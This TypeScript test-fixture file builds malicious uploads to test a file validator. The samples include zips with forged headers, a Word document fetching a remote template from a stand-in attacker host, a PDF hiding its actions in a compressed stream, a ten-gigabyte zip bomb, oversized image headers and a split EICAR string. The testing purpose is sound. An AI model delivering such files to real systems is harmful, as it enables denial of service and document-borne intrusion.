import { constants, crc32, deflateRawSync, deflateSync } from 'node:zlib'

/** Files as people upload them, and as an attacker would. All are made here. */

type Part = {
  name: string
  data?: Uint8Array | string
  /** False values for the headers. */ says?: {
    size?: number
    flags?: number
    mode?: number
    localName?: string
    packed?: Uint8Array
  }
}

/** A hundred thousand packings of nothing take seconds. */
const NOTHING_PACKED = deflateRawSync(Buffer.alloc(0))

/** A zip of these parts. */
export function aZip(parts: readonly Part[]): Buffer {
  const locals: Buffer[] = []
  const directory: Buffer[] = []
  let at = 0
  for (const { name, data = '', says = {} } of parts) {
    const content = Buffer.from(data)
    const packed = says.packed ?? (content.length === 0 ? NOTHING_PACKED : deflateRawSync(content))
    const fixed = Buffer.alloc(26)
    fixed.writeUInt16LE(20, 0)
    fixed.writeUInt16LE(says.flags ?? 0, 2)
    fixed.writeUInt16LE(8, 4)
    fixed.writeUInt32LE(crc32(content), 10)
    fixed.writeUInt32LE(packed.length, 14)
    fixed.writeUInt32LE(says.size ?? content.length, 18)
    fixed.writeUInt16LE(Buffer.byteLength(name), 22)
    const localName = Buffer.from(says.localName ?? name)
    const local = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), fixed, localName, packed])
    local.writeUInt16LE(localName.length, 26)
    const entry = Buffer.alloc(46)
    entry.write('PK\x01\x02', 'latin1')
    entry.writeUInt16LE(0x0314, 4)
    fixed.copy(entry, 6)
    entry.writeUInt32LE(((says.mode ?? 0o100644) << 16) >>> 0, 38)
    entry.writeUInt32LE(at, 42)
    locals.push(local)
    directory.push(entry, Buffer.from(name))
    at += local.length
  }
  const central = Buffer.concat(directory)
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06', 'latin1')
  // Values beyond two bytes mean that another record has the number.
  const count = Math.min(parts.length, 0xffff)
  end.writeUInt16LE(count, 8)
  end.writeUInt16LE(count, 10)
  end.writeUInt32LE(central.length, 12)
  end.writeUInt32LE(at, 16)
  return Buffer.concat([...locals, central, end])
}

const MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
const RELATIONS = 'http://schemas.openxmlformats.org/package/2006/relationships'
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')

const contentTypes = (main: string) =>
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`

/** A Word document with this text, and additional or replaced parts. */
export function aDocx(text: string, more: readonly Part[] = [], main = MAIN): Buffer {
  const own: Part[] = [
    { name: '[Content_Types].xml', data: contentTypes(main) },
    {
      name: '_rels/.rels',
      data: `<?xml version="1.0"?><Relationships xmlns="${RELATIONS}"><Relationship Id="r1" Type="${OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>`,
    },
    {
      name: 'word/document.xml',
      data: `<?xml version="1.0"?><w:document xmlns:w="${W}"><w:body><w:p><w:r><w:t>${escaped(text)}</w:t></w:r></w:p></w:body></w:document>`,
    },
  ]
  const names = new Set(more.map(({ name }) => name))
  return aZip([...own.filter(({ name }) => !names.has(name)), ...more])
}

/** A Word document whose settings fetch a template from elsewhere. */
export const aDocxWithTemplate = () =>
  aDocx('x', [
    {
      name: 'word/_rels/settings.xml.rels',
      data: `<Relationships xmlns="${RELATIONS}"><Relationship Id="r1" Type="${OFFICE}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
    },
  ])

/** A PDF of one page with these words in Helvetica; `catalog` and `objects` are inserted, `before` and `behind` put around it. */
export function aPdf(
  text: string,
  more: { catalog?: string; objects?: readonly string[]; trailer?: string; before?: string; behind?: string } = {},
): Buffer {
  const content = `BT /F1 12 Tf 20 100 Td (${text.replace(/[()\\]/g, '\\$&')}) Tj ET`
  const objects = [
    `<</Type/Catalog/Pages 2 0 R${more.catalog ?? ''}>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 200]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>',
    `<</Length ${content.length}>>\nstream\n${content}\nendstream`,
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>',
    ...(more.objects ?? []),
  ]
  let file = '%PDF-1.7\n'
  const places = objects.map((object, n) => {
    const place = file.length
    file += `${n + 1} 0 obj\n${object}\nendobj\n`
    return place
  })
  const start = file.length
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
  file += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<</Size ${objects.length + 1}/Root 1 0 R${more.trailer ?? ''}>>\nstartxref\n${start}\n%%EOF\n`
  return Buffer.from((more.before ?? '') + file + (more.behind ?? ''), 'latin1')
}

/** A PDF whose catalog and `action` (object 7) are compressed in a stream, so that the file contains no word of them. */
export function aPackedPdf(catalog: string, action: string): Buffer {
  const parts = [`<</Type/Catalog/Pages 2 0 R${catalog}>>`, action]
  const heading = `1 0 7 ${(parts[0]?.length ?? 0) + 1} `
  const packed = deflateSync(Buffer.from(heading + parts.join(' '), 'latin1')).toString('latin1')
  const objects: [number, string][] = [
    [2, '<</Type/Pages/Kids[3 0 R]/Count 1>>'],
    [3, '<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 200]>>'],
    [
      6,
      `<</Type/ObjStm/N 2/First ${heading.length}/Filter/FlateDecode/Length ${packed.length}>>\nstream\n${packed}\nendstream`,
    ],
  ]
  let file = '%PDF-1.7\n'
  const entries = Array.from({ length: 9 }, () => [0, 0, 0])
  for (const [n, object] of objects) {
    entries[n] = [1, file.length, 0]
    file += `${n} 0 obj\n${object}\nendobj\n`
  }
  entries[1] = [2, 6, 0]
  entries[7] = [2, 6, 1]
  entries[8] = [1, file.length, 0]
  const table = Buffer.alloc(7 * entries.length)
  for (const [n, [kind = 0, place = 0, index = 0]] of entries.entries()) {
    table.writeUInt8(kind, 7 * n)
    table.writeUInt32BE(place, 7 * n + 1)
    table.writeUInt16BE(index, 7 * n + 5)
  }
  const start = file.length
  file += `8 0 obj\n<</Type/XRef/Size 9/W[1 4 2]/Root 1 0 R/Length ${table.length}>>\nstream\n${table.toString('latin1')}\nendstream\nendobj\nstartxref\n${start}\n%%EOF\n`
  return Buffer.from(file, 'latin1')
}

/** A PDF of this size, whose bytes show their position. */
export function aLongPdf(bytes: number): Buffer {
  const filling = 'x'.repeat(Math.max(0, bytes - 1000))
  return aPdf('Long', {
    objects: [
      `<</Length ${filling.length}>>\nstream\n${filling.replace(/x{10}/g, (_, at: number) => String(at).padStart(10, '0'))}\nendstream`,
    ],
  })
}

function pngChunk(kind: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(kind, 'latin1'), data])
  const chunk = Buffer.alloc(8 + body.length)
  chunk.writeUInt32BE(data.length, 0)
  body.copy(chunk, 4)
  chunk.writeUInt32BE(crc32(body), 4 + body.length)
  return chunk
}

/** A grey picture; of one declared as huge, there is only the header. */
export function aPng(width = 4, height = 4, more: readonly { kind: string; data: string }[] = []): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head[8] = 8
  const rows = Buffer.alloc(Math.min(width + 1, 1000) * Math.min(height, 1000))
  const chunks = more.map(({ kind, data }) => pngChunk(kind, Buffer.from(data, 'latin1')))
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    pngChunk('IHDR', head),
    ...chunks,
    pngChunk('IDAT', deflateSync(rows)),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
}

/** The frame of a JPEG: enough for a reader that goes from marker to marker. */
export function aJpeg(width = 4, height = 4, more: { comment?: string; behind?: string } = {}): Buffer {
  const segment = (marker: number, ...data: number[]) => [
    0xff,
    marker,
    ((data.length + 2) >> 8) & 255,
    (data.length + 2) & 255,
    ...data,
  ]
  const comment = more.comment === undefined ? [] : segment(0xfe, ...Buffer.from(more.comment, 'latin1'))
  const frame = segment(0xc0, 8, height >> 8, height & 255, width >> 8, width & 255, 1, 1, 0x11, 0)
  const picture = [...segment(0xda, 1, 1, 0, 0, 63, 0), 0x12, 0xff, 0x00, 0x34, 0xff, 0xd0, 0x56]
  return Buffer.from([
    0xff,
    0xd8,
    ...segment(0xe0, ...Buffer.from('JFIF\0'), 1, 1, 0, 0, 1, 0, 1, 0, 0),
    ...comment,
    ...frame,
    ...picture,
    0xff,
    0xd9,
    ...Buffer.from(more.behind ?? '', 'latin1'),
  ])
}

/** A Word document with a part that unpacks to ten gigabytes of nothing, and declares nine bytes. */
export function aBombOfTenGigabytes(): Buffer {
  const ten = deflateRawSync(Buffer.alloc(10_000_000), { level: 9, finishFlush: constants.Z_FULL_FLUSH })
  const packed = Buffer.concat([...Array.from({ length: 1000 }, () => ten), deflateRawSync(Buffer.alloc(0))])
  return aDocx('x', [{ name: 'word/a.xml', data: 'nine byte', says: { packed } }])
}

/**
 * The test file of virus scanners: harmless, and known to all of them. In two halves, so that none reports this file.
 */
export const eicar = () =>
  Buffer.from(['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-', 'ANTIVIRUS-TEST-FILE!$H+H*'].join(''))
